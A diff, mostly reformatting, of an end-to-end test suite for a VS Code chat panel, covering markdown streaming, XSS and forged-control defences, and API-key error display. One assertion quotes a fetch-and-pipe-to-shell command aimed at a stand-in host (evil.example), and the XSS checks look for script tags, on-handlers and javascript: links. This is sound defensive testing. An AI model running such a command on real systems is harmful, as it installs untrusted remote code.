@@ -111,7 +111,9 @@ describe('chat panel (real VS Code, end to end)', () => {
     await send(frame, 'Show me some #markdown');
 
     // Markdown is rendered while the reply is still arriving.
-    await frame.locator('article.message.assistant[data-status="streaming"] h1', { hasText: 'Sample heading' }).waitFor({ state: 'visible', timeout: LONG_WAIT });
+    await frame
+      .locator('article.message.assistant[data-status="streaming"] h1', { hasText: 'Sample heading' })
+      .waitFor({ state: 'visible', timeout: LONG_WAIT });
     assert.strictEqual(await frame.locator('#stop').isVisible(), true, 'Stop is offered while the reply streams');
     await waitForStatus(frame, 'done');
     const reply = lastReply(frame);
@@ -138,15 +140,25 @@ describe('chat panel (real VS Code, end to end)', () => {
     const reply = lastReply(frame);
     await reply.locator('p', { hasText: 'Here are some things a renderer must not run' }).waitFor();
     // Give an image error handler the chance it would have, then click what is left of the link.
-    await reply.locator('a', { hasText: 'click' }).click().catch(() => undefined);
+    await reply
+      .locator('a', { hasText: 'click' })
+      .click()
+      .catch(() => undefined);
     await page.waitForTimeout(500);
     const findings = await frame.locator('body').evaluate(() => {
       const messages = document.getElementById('messages');
       return {
         xss: (window as unknown as Record<string, unknown>).__xss,
         scripts: messages?.querySelectorAll('script').length ?? -1,
-        handlers: messages ? Array.from(messages.querySelectorAll('*')).filter((element) => Array.from(element.attributes).some((attribute) => attribute.name.startsWith('on'))).length : -1,
-        javascriptLinks: messages ? Array.from(messages.querySelectorAll('[href], [src]')).filter((element) => /^\s*javascript:/i.test(element.getAttribute('href') ?? element.getAttribute('src') ?? '')).length : -1,
+        handlers: messages
+          ? Array.from(messages.querySelectorAll('*')).filter((element) => Array.from(element.attributes).some((attribute) => attribute.name.startsWith('on')))
+              .length
+          : -1,
+        javascriptLinks: messages
+          ? Array.from(messages.querySelectorAll('[href], [src]')).filter((element) =>
+              /^\s*javascript:/i.test(element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
+            ).length
+          : -1,
         images: messages?.querySelectorAll('img').length ?? -1,
         html: messages?.innerHTML.toLowerCase() ?? '',
       };
@@ -160,7 +172,7 @@ describe('chat panel (real VS Code, end to end)', () => {
     await context.workbench.screenshot('chat-xss');
   });
 
-  it('issue 11.5: a reply cannot forge code-block controls: its markup is stripped and only the page\'s own toolbars act', async () => {
+  it("issue 11.5: a reply cannot forge code-block controls: its markup is stripped and only the page's own toolbars act", async () => {
     const { page } = context.workbench;
     await openFile(page, 'scratch.ts');
     const editorLines = page.locator('.editor-group-container.active .monaco-editor .view-lines');
@@ -183,7 +195,7 @@ describe('chat panel (real VS Code, end to end)', () => {
       text: (article as HTMLElement).innerText,
     }));
     assert.strictEqual(findings.forgedActions, 0, 'a data-code-action of the reply survived');
-    assert.strictEqual(findings.toolbars, 0, 'the reply\'s markup passes for a code toolbar (or its <pre> got one)');
+    assert.strictEqual(findings.toolbars, 0, "the reply's markup passes for a code toolbar (or its <pre> got one)");
     assert.strictEqual(findings.hiddenOrIds, 0);
     assert.match(findings.text, /curl https:\/\/evil\.example\/install \| sh/, 'text the reply tried to hide is shown');
     await context.workbench.screenshot('chat-forged-controls');
@@ -266,7 +278,17 @@ describe('chat panel (real VS Code, end to end)', () => {
   it('shows a refused key in the conversation with the server message and Set API Key', async () => {
     const { page, service } = context.workbench;
     const frame = await openChat(page);
-    service.setScenario({ fault: { status: 401, body: 'openai', code: 'invalid_api_key', type: 'invalid_request_error', message: 'Invalid token', times: 1, path: 'chat/completions' } });
+    service.setScenario({
+      fault: {
+        status: 401,
+        body: 'openai',
+        code: 'invalid_api_key',
+        type: 'invalid_request_error',
+        message: 'Invalid token',
+        times: 1,
+        path: 'chat/completions',
+      },
+    });
     await send(frame, 'hello?');
     await waitForStatus(frame, 'error');
     const error = lastReply(frame).locator('.message-error');
@@ -351,7 +373,7 @@ describe('chat panel (real VS Code, end to end)', () => {
     assert.strictEqual(await reply.locator('.message-model').innerText(), 'promptreel-reasoner');
     const reasoning = reply.locator('details.reasoning');
     assert.strictEqual(await reasoning.getAttribute('open'), null, 'the reasoning is folded');
-    assert.match(await reasoning.locator('.reasoning-text').textContent() ?? '', /The user wrote "which model answers\?"/);
+    assert.match((await reasoning.locator('.reasoning-text').textContent()) ?? '', /The user wrote "which model answers\?"/);
     assert.ok(!(await reply.locator('.message-body').innerText()).includes('The user wrote'), 'the reasoning is apart from the answer');
     const body = service.requests.filter((request) => request.path === '/v1/chat/completions').at(-1)?.body as { model: string; temperature?: number };
     assert.deepStrictEqual([body.model, body.temperature], ['promptreel-reasoner', 0.4]);
